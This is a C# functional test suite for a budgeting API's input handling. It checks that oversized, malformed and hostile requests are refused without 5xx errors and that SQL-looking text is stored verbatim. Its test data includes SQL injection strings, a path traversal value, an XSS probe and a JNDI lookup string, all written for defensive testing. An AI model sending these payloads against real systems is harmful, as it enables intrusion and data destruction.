using System.Text;

namespace PerfEval.FunctionalTests.Security;

/// <summary>
/// Whatever arrives (too large, the wrong media type, malformed, hostile, SQL-looking), the answer
/// is a 4xx problem document that leaks nothing, and nothing is stored; what looks like SQL but is
/// valid data is stored verbatim.
/// </summary>
public sealed class HostileInputTests(SecurityFactory factory) : IClassFixture<SecurityFactory>
{
    private const int Year = World.DefaultYear;

    private const string ValidLine = """{"expenditureClass":"personnel","fundingSource":"ownLevel","projectId":null,"initialAmount":12.5,"executedAmount":0}""";

    private readonly HttpClient _admin = factory.CreateClient();

    private static string ValidDepartment(string code, string name = "测试单位") =>
        JsonSerializer.Serialize(TestData.Department(code, name), PerfEvalFactory.Json);

    private async Task<string> LinesUrlAsync()
    {
        await _admin.CreateYearAsync(Year);
        return MoreTestData.LinesUrl(await _admin.CreateDepartmentAsync(), Year);
    }

    private async Task AssertNoDepartmentAsync(string code) =>
        await SecurityAssert.ProblemAsync(await _admin.GetAsync($"/api/v1/departments/{code}"), HttpStatusCode.NotFound, $"department {code} after a refused create");

    /// <summary>A valid department whose functions text is <paramref name="length"/> ASCII characters.</summary>
    private static string DepartmentWithFunctions(string code, int length)
    {
        var node = System.Text.Json.Nodes.JsonNode.Parse(ValidDepartment(code))!.AsObject();
        node["functions"] = new string('x', length);
        return node.ToJsonString();
    }

    [Fact]
    public async Task PostDepartment_WhenBodyIsOverTheLimit_Returns413ProblemDetails()
    {
        var code = TestData.NewCode("BIG");
        var body = DepartmentWithFunctions(code, 1_048_576);
        Assert.True(Encoding.UTF8.GetByteCount(body) > 1_048_576);

        var response = await _admin.PostAsync("/api/v1/departments", SecurityAssert.Text(body));

        await SecurityAssert.ProblemAsync(response, HttpStatusCode.RequestEntityTooLarge);
        SecurityAssert.Hardened(response, "/api/v1/departments");
        await AssertNoDepartmentAsync(code);
    }

    [Fact]
    public async Task PostDepartment_WhenOversizedBodyComesFromAnAnonymousCaller_IsRefused()
    {
        var body = new string(' ', 2 * 1_048_576) + "{}";

        var response = await factory.CreateClient(apiKey: null).PostAsync("/api/v1/departments", SecurityAssert.Text(body));

        Assert.True(response.StatusCode is HttpStatusCode.RequestEntityTooLarge or HttpStatusCode.Unauthorized, $"Got {(int)response.StatusCode}");
        await SecurityAssert.ProblemAsync(response);
    }

    [Fact]
    public async Task PostDepartment_WhenBodyIsJustUnderTheLimit_IsReadAndValidated()
    {
        // Control for the 413 test: under the limit the body is read (and this one is a 400 for its long text).
        var code = TestData.NewCode("BIG");
        var body = DepartmentWithFunctions(code, 1_000_000);

        var response = await _admin.PostAsync("/api/v1/departments", SecurityAssert.Text(body));

        var errors = await response.AssertValidationErrorsAsync("functions");
        Assert.Single(errors.EnumerateObject());
    }

    [Fact]
    public async Task PushAdjustments_WhenBodyIsOverTheNormalLimitButUnderTheBatchLimit_IsRead()
    {
        var world = await World.CreateAsync(_admin);
        var body = JsonSerializer.Serialize(world.Push(amount: 1m), PerfEvalFactory.Json)[..^1] + new string(' ', 2 * 1_048_576) + "}";
        var request = new HttpRequestMessage(HttpMethod.Post, World.AdjustmentsUrl) { Content = SecurityAssert.Text(body) };
        request.Headers.Add("Idempotency-Key", Guid.NewGuid().ToString());

        var response = await _admin.SendAsync(request);

        Assert.True(response.StatusCode == HttpStatusCode.Created, $"{(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
    }

    [Fact]
    public async Task PushAdjustments_WhenBodyIsOverTheBatchLimit_Returns413ProblemDetailsAndAddsNothing()
    {
        var world = await World.CreateAsync(_admin);
        var before = await (await _admin.GetAsync(world.LineUrl)).Content.ReadAsStringAsync();
        var body = JsonSerializer.Serialize(world.Push(amount: 1m), PerfEvalFactory.Json)[..^1] + new string(' ', 8 * 1_048_576 + 1) + "}";
        var request = new HttpRequestMessage(HttpMethod.Post, World.AdjustmentsUrl) { Content = SecurityAssert.Text(body) };
        request.Headers.Add("Idempotency-Key", Guid.NewGuid().ToString());

        var response = await _admin.SendAsync(request);

        await SecurityAssert.ProblemAsync(response, HttpStatusCode.RequestEntityTooLarge);
        Assert.Equal(before, await (await _admin.GetAsync(world.LineUrl)).Content.ReadAsStringAsync());
    }

    [Theory]
    [InlineData("text/plain")]
    [InlineData("application/xml")]
    [InlineData("text/xml")]
    [InlineData("application/x-www-form-urlencoded")]
    [InlineData("multipart/form-data")]
    [InlineData("application/octet-stream")]
    public async Task PostBudgetLine_WhenMediaTypeIsNotJson_Returns415ProblemDetailsAndAddsNothing(string mediaType)
    {
        var url = await LinesUrlAsync();
        var body = mediaType.Contains("xml", StringComparison.Ordinal)
            ? "<line><expenditureClass>personnel</expenditureClass></line>"
            : ValidLine;

        var response = await _admin.PostAsync(url, new ByteArrayContent(Encoding.UTF8.GetBytes(body)) { Headers = { ContentType = new(mediaType) } });

        await SecurityAssert.ProblemAsync(response, HttpStatusCode.UnsupportedMediaType, mediaType);
        Assert.Empty(await _admin.WalkPagesAsync(url, limit: 10));
    }

    [Fact]
    public async Task PostBudgetLine_WhenContentTypeIsMissing_Returns415ProblemDetailsAndAddsNothing()
    {
        var url = await LinesUrlAsync();

        var response = await _admin.PostAsync(url, new ByteArrayContent(Encoding.UTF8.GetBytes(ValidLine)));

        await SecurityAssert.ProblemAsync(response, HttpStatusCode.UnsupportedMediaType);
        Assert.Empty(await _admin.WalkPagesAsync(url, limit: 10));
    }

    public static TheoryData<string, string> HostileLines
    {
        get
        {
            var data = new TheoryData<string, string>
            {
                { "1e400 as an amount", Line("1e400") },
                { "-1e400 as an amount", Line("-1e400") },
                { "a 30-digit amount", Line("123456789012345678901234567890.123") },
                { "decimal.MaxValue", Line("79228162514264337593543950335") },
                { "decimal.MaxValue + 1", Line("79228162514264337593543950336") },
                { "an amount beyond DECIMAL(19,2)", Line("10000000000000000") },
                { "a 1000-digit amount", Line("1" + new string('0', 1000)) },
                { "1e-400 with 400 decimals", Line("0." + new string('0', 399) + "1") },
                { "NaN literal", Line("NaN") },
                { "Infinity literal", Line("Infinity") },
                { "-Infinity literal", Line("-Infinity") },
                { "\"NaN\" as a string", Line("\"NaN\"") },
                { "\"Infinity\" as a string", Line("\"Infinity\"") },
                { "\"12.5\" as a string", Line("\"12.5\"") },
                { "hex number", Line("0x10") },
                { "leading zeros", Line("012.5") },
                { "three decimals", Line("12.345") },
                { "negative amount", Line("-12.5") },
                { "true as an amount", Line("true") },
                { "object as an amount", Line("{\"value\":12.5}") },
                { "10,000 nested arrays as the body", new string('[', 10_000) + new string(']', 10_000) },
                { "10,000 nested objects as the body", string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000) },
                { "10,000 nested arrays in a field", Line(new string('[', 10_000) + new string(']', 10_000)) },
                { "10,000 nested objects in a field", Line(string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000)) },
                { "unclosed nesting", new string('[', 10_000) },
                { "array instead of object", "[" + ValidLine + "]" },
                { "empty body", "" },
                { "whitespace body", "   \n\t  " },
                { "null body", "null" },
                { "string body", "\"line\"" },
                { "number body", "12.5" },
                { "duplicate property, different values", ValidLine[..^1] + ",\"initialAmount\":99999}" },
                { "duplicate property, case variant", ValidLine[..^1] + ",\"InitialAmount\":99999}" },
                { "two JSON documents", ValidLine + ValidLine },
                { "trailing garbage", ValidLine + "garbage" },
                { "comment", "/* hi */" + ValidLine },
                { "unterminated string", "{\"expenditureClass\":\"personnel" },
                { "raw control character in a string", "{\"expenditureClass\":\"person\u0001nel\",\"fundingSource\":\"ownLevel\",\"projectId\":null,\"initialAmount\":12.5,\"executedAmount\":0}" },
                { "lone surrogate escape in an enum", "{\"expenditureClass\":\"\\uD800\",\"fundingSource\":\"ownLevel\",\"projectId\":null,\"initialAmount\":12.5,\"executedAmount\":0}" },
                { "100 KB enum value", "{\"expenditureClass\":\"" + new string('p', 100_000) + "\",\"fundingSource\":\"ownLevel\",\"projectId\":null,\"initialAmount\":12.5,\"executedAmount\":0}" },
                { "projectId as a huge number", ValidLine.Replace("\"projectId\":null", "\"projectId\":1e400", StringComparison.Ordinal) },
                { "projectId that does not exist", ValidLine.Replace("\"projectId\":null", "\"projectId\":9223372036854775807", StringComparison.Ordinal) },
                { "50,000 unknown properties", "{" + string.Join(",", Enumerable.Range(0, 50_000).Select(i => $"\"p{i}\":0")) + "}" },
            };
            return data;
        }
    }

    private static string Line(string amount) =>
        $"{{\"expenditureClass\":\"personnel\",\"fundingSource\":\"ownLevel\",\"projectId\":null,\"initialAmount\":{amount},\"executedAmount\":0}}";

    [Theory]
    [MemberData(nameof(HostileLines))]
    public async Task PostBudgetLine_WhenBodyIsMalformedOrHostile_Returns4xxProblemDetailsAndAddsNothing(string why, string body)
    {
        var url = await LinesUrlAsync();

        var response = await _admin.PostAsync(url, SecurityAssert.Text(body));

        await SecurityAssert.ClientErrorAsync(response, why);
        Assert.Empty(await _admin.WalkPagesAsync(url, limit: 10));
    }

    public static TheoryData<string, string?, string> HostileDepartments => new()
    {
        { "100 KB name", "name", "\"" + new string('名', 100_000) + "\"" },
        { "100 KB code", "code", "\"" + new string('C', 100_000) + "\"" },
        { "100,000 divisions", "divisions", "[" + string.Join(",", Enumerable.Repeat("\"科\"", 100_000)) + "]" },
        { "staffing as an array", "staffing", "[5,3,1,8]" },
        { "staffing nested 10,000 deep", "staffing", string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000) },
        { "headcount 1e400", "staffing", "{\"administrative\":1e400,\"institutional\":3,\"logistics\":1,\"actual\":8}" },
        { "headcount as a string", "staffing", "{\"administrative\":\"5\",\"institutional\":3,\"logistics\":1,\"actual\":8}" },
        { "headcount fractional", "staffing", "{\"administrative\":5.5,\"institutional\":3,\"logistics\":1,\"actual\":8}" },
        { "code with SQL", "code", "\"X'; DROP TABLE departments; --\"" },
        { "code with a path", "code", "\"../../etc/passwd\"" },
        { "parentCode with SQL", "parentCode", "\"' OR '1'='1\"" },
        { "name null", "name", "null" },
        { "region empty", "region", "\"\"" },
        { "duplicate code property (a second department's code appended)", null, "\"code\":\"{OTHER}\"" },
        { "duplicate name property appended", null, "\"name\":\"另一个名称\"" },
    };

    /// <summary>The valid department with one property's value replaced by raw JSON, or (property null) raw JSON appended.</summary>
    [Theory]
    [MemberData(nameof(HostileDepartments))]
    public async Task PostDepartment_WhenBodyIsHostile_Returns4xxProblemDetailsAndCreatesNothing(string why, string? property, string raw)
    {
        var code = TestData.NewCode("HOS");
        var other = TestData.NewCode("HOS");
        raw = raw.Replace("{OTHER}", other, StringComparison.Ordinal);
        string body;
        if (property is null)
        {
            body = ValidDepartment(code)[..^1] + "," + raw + "}";
        }
        else
        {
            var node = System.Text.Json.Nodes.JsonNode.Parse(ValidDepartment(code))!.AsObject();
            node[property] = "__RAW__";
            body = node.ToJsonString(PerfEvalFactory.Json).Replace("\"__RAW__\"", raw, StringComparison.Ordinal);
        }

        var response = await _admin.PostAsync("/api/v1/departments", SecurityAssert.Text(body));

        await SecurityAssert.ClientErrorAsync(response, why);
        await AssertNoDepartmentAsync(code);
        await AssertNoDepartmentAsync(other);
    }

    public static TheoryData<string, string> InvalidUtf8 => new()
    {
        { "0xFF 0xFE", "FFFE" },
        { "overlong '/'", "C0AF" },
        { "truncated 3-byte sequence", "E6B5" },
        { "UTF-8 encoded surrogate", "EDA080" },
        { "bare continuation byte", "80" },
        { "5-byte sequence", "F888808080" },
    };

    [Theory]
    [MemberData(nameof(InvalidUtf8))]
    public async Task PostDepartment_WhenNameHasInvalidUtf8_Returns400ProblemDetailsAndCreatesNothing(string why, string hex)
    {
        var code = TestData.NewCode("UTF");
        var json = ValidDepartment(code, name: "BAD");
        var at = json.IndexOf("BAD", StringComparison.Ordinal);
        var bytes = Encoding.UTF8.GetBytes(json[..at]).Concat(Convert.FromHexString(hex)).Concat(Encoding.UTF8.GetBytes(json[(at + 3)..])).ToArray();

        var response = await _admin.PostAsync("/api/v1/departments", SecurityAssert.RawJson(bytes));

        await SecurityAssert.ClientErrorAsync(response, why);
        await AssertNoDepartmentAsync(code);
    }

    [Theory]
    [InlineData("lone high surrogate", "a\\uD800b")]
    [InlineData("lone low surrogate", "a\\uDC00b")]
    [InlineData("reversed pair", "\\uDC00\\uD800")]
    public async Task PostDepartment_WhenNameHasInvalidUtf16Escape_IsRefusedOrStoredReadably(string why, string escaped)
    {
        var code = TestData.NewCode("U16");
        var body = ValidDepartment(code, name: "PLACEHOLDER").Replace("PLACEHOLDER", escaped, StringComparison.Ordinal);

        var response = await _admin.PostAsync("/api/v1/departments", SecurityAssert.Text(body));

        Assert.True((int)response.StatusCode < 500, $"{why}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        if (!response.IsSuccessStatusCode)
        {
            await SecurityAssert.ClientErrorAsync(response, why);
            await AssertNoDepartmentAsync(code);
            return;
        }

        var read = await _admin.GetAsync($"/api/v1/departments/{code}");
        var list = await _admin.GetAsync("/api/v1/departments?limit=500");
        Assert.True(read.StatusCode == HttpStatusCode.OK, $"{why}: stored, then GET gave {(int)read.StatusCode} {await read.Content.ReadAsStringAsync()}");
        Assert.True(list.StatusCode == HttpStatusCode.OK, $"{why}: stored, then the list gave {(int)list.StatusCode} {await list.Content.ReadAsStringAsync()}");
    }

    public static TheoryData<string> SqlLookingText => new()
    {
        "'; DROP TABLE departments; --",
        "1 OR 1=1",
        "Robert'); DELETE FROM budget_lines;--",
        "\" OR \"\"=\"",
        "1; UPDATE departments SET name = 'pwned'",
        "' UNION SELECT code, name FROM departments --",
        "%' OR name LIKE '%",
        "\\'; DROP TABLE projects; --",
        "100%_达标[率]\\",
        "名称\u0000后缀",
        "🙂 emoji and \u200B zero-width and \u202E right-to-left",
        "<script>alert(1)</script>",
        "${jndi:ldap://example.test/a}",
    };

    [Theory]
    [MemberData(nameof(SqlLookingText))]
    public async Task Department_WhenTextLooksLikeSql_IsStoredVerbatimAndTablesStayIntact(string text)
    {
        await _admin.CreateYearAsync(Year);
        var canary = await World.CreateAsync(_admin);
        var code = TestData.NewCode("SQL");
        var department = new
        {
            code,
            name = text,
            region = text,
            parentCode = (string?)null,
            unitType = text.Length <= 50 ? text : text[..50],
            level = "科级",
            functions = text,
            staffing = new { administrative = 1, institutional = 1, logistics = 1, actual = 1 },
            divisions = new[] { text, text + "2" },
        };

        var created = await _admin.PostJsonAsync("/api/v1/departments", department);
        Assert.True(created.StatusCode == HttpStatusCode.Created, $"{(int)created.StatusCode} {await created.Content.ReadAsStringAsync()}");
        var project = await _admin.CreateProjectAsync(code, Year, MoreTestData.Project(name: text));
        var read = await (await _admin.GetAsync($"/api/v1/departments/{code}")).JsonAsync();
        var readProject = await (await _admin.GetAsync($"/api/v1/projects/{project.GetProperty("id").GetInt64()}")).JsonAsync();

        Assert.Equal(text, read.GetProperty("name").GetString());
        Assert.Equal(text, read.GetProperty("region").GetString());
        Assert.Equal(text, read.GetProperty("functions").GetString());
        Assert.Equal([text, text + "2"], read.GetProperty("divisions").EnumerateArray().Select(d => d.GetString()));
        Assert.Equal(text, readProject.GetProperty("name").GetString());
        await AssertTablesIntactAsync(canary);
        var byRegion = await _admin.GetAsync("/api/v1/departments?limit=500&region=" + Uri.EscapeDataString(text));
        var byName = await _admin.GetAsync("/api/v1/departments?limit=500&nameContains=" + Uri.EscapeDataString(text));
        Assert.True(byRegion.StatusCode == HttpStatusCode.OK, $"region: {(int)byRegion.StatusCode} {await byRegion.Content.ReadAsStringAsync()}");
        Assert.Equal([code], (await byRegion.JsonAsync()).GetProperty("items").EnumerateArray().Select(d => d.GetProperty("code").GetString()));
        Assert.True(byName.StatusCode == HttpStatusCode.OK, $"nameContains: {(int)byName.StatusCode} {await byName.Content.ReadAsStringAsync()}");
        Assert.Equal([code], (await byName.JsonAsync()).GetProperty("items").EnumerateArray().Select(d => d.GetProperty("code").GetString()));
    }

    [Fact]
    public async Task BudgetLine_WhenDepartmentCodeInRouteLooksLikeSql_Returns4xxAndTablesStayIntact()
    {
        var canary = await World.CreateAsync(_admin);
        string[] codes = ["' OR '1'='1", "x'; DROP TABLE budget_lines; --", "%", "_", "*", "..%2F..%2F"];
        foreach (var code in codes)
        {
            var escaped = Uri.EscapeDataString(code);
            var get = await _admin.GetAsync($"/api/v1/departments/{escaped}");
            var lines = await _admin.GetAsync(MoreTestData.LinesUrl(escaped, Year));
            var post = await _admin.PostJsonAsync(MoreTestData.LinesUrl(escaped, Year), MoreTestData.BudgetLine("personnel", "ownLevel", 1m, 0m));

            await SecurityAssert.ClientErrorAsync(get, $"GET department {code}");
            await SecurityAssert.ClientErrorAsync(lines, $"GET lines of {code}");
            await SecurityAssert.ClientErrorAsync(post, $"POST line to {code}");
        }

        await AssertTablesIntactAsync(canary);
    }

    [Theory]
    [InlineData("/api/v1/departments?limit=1e400")]
    [InlineData("/api/v1/departments?limit=99999999999999999999")]
    [InlineData("/api/v1/departments?limit=-1")]
    [InlineData("/api/v1/departments?cursor=JyBPUiAxPTEgLS0")]
    [InlineData("/api/v1/audit-events?cursor=JyBPUiAxPTEgLS0")]
    [InlineData("/api/v1/audit-events?from=not-a-date")]
    [InlineData("/api/v1/fiscal-years?status=open%27%20OR%201%3D1")]
    [InlineData("/api/v1/departments/X/budgets/99999999999/lines")]
    [InlineData("/api/v1/projects/99999999999999999999")]
    public async Task Query_WhenHostile_IsNever5xx(string url)
    {
        var response = await _admin.GetAsync(url);

        Assert.True((int)response.StatusCode < 500, $"{url}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        if (!response.IsSuccessStatusCode)
        {
            await SecurityAssert.ProblemAsync(response, context: url);
        }
    }

    [Theory]
    [InlineData("%")]
    [InlineData("_")]
    [InlineData("[")]
    [InlineData("\\")]
    public async Task ListDepartments_WhenNameContainsLikeWildcards_TakesThemLiterally(string wildcard)
    {
        var marker = "LK" + Guid.NewGuid().ToString("N")[..8];
        var literal = TestData.NewCode("LIKE");
        var plain = TestData.NewCode("LIKE");
        Assert.Equal(HttpStatusCode.Created, (await _admin.PostJsonAsync("/api/v1/departments", TestData.Department(literal, name: $"{marker}{wildcard}x"))).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await _admin.PostJsonAsync("/api/v1/departments", TestData.Department(plain, name: $"{marker}Ax"))).StatusCode);

        var response = await _admin.GetAsync("/api/v1/departments?limit=500&nameContains=" + Uri.EscapeDataString(marker + wildcard));

        Assert.True(response.StatusCode == HttpStatusCode.OK, $"nameContains={marker}{wildcard}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        Assert.Equal([literal], (await response.JsonAsync()).GetProperty("items").EnumerateArray().Select(d => d.GetProperty("code").GetString()));
    }

    /// <summary>The canary department, its line and project are still there, and every table still answers.</summary>
    private async Task AssertTablesIntactAsync(World canary)
    {
        foreach (var url in new[]
        {
            canary.DepartmentUrl, canary.LineUrl, canary.ProjectUrl, canary.IndicatorUrl,
            "/api/v1/departments", MoreTestData.LinesUrl(canary.Code, canary.Year), "/api/v1/fiscal-years",
            "/api/v1/scoring-schemes", "/api/v1/audit-events", MoreTestData.SummaryUrl(canary.Code, canary.Year),
        })
        {
            var response = await _admin.GetAsync(url);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url} after the hostile input: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        }

        var lines = await _admin.WalkPagesAsync(MoreTestData.LinesUrl(canary.Code, canary.Year), limit: 10);
        Assert.Single(lines);
    }
}
